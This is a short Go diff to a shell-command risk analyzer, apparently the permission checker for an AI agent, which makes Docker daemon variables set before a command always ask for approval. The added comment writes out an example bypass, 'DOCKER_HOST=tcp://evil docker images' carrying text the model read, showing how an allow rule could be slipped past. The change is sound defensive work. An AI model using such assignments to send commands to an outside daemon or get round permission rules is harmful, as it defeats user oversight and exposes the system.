@@ -680,7 +680,14 @@ func (a *analyzer) sideDoorAssign(name string, x arg, sp risk.Span) {
 		a.codeFrom(x, name, false)
 	case "DOCKER_HOST", "CONTAINER_HOST", "DOCKER_CONTEXT", "CONTAINERD_ADDRESS":
 		if x.dyn || remoteDaemon(x.s) || name == "DOCKER_CONTEXT" && x.s != "default" {
+			// Opaque, not only network: a rule's words never hold the
+			// assignments before a command, so a rule for "docker
+			// images" would otherwise allow DOCKER_HOST=tcp://evil
+			// docker images --filter reference=<what the model read>
+			// (prop review 3, C3). The same daemon given as an option
+			// (docker -H …, --context …) is a word a rule can name.
 			a.network(sp, quote(name), "setting "+name+" sends container commands to the daemon it names, which may be on another machine")
+			a.opaque(sp, "setting "+name+" before the command sends it to another daemon, which no rule's words can name; it is asked every time")
 		}
 	}
 }
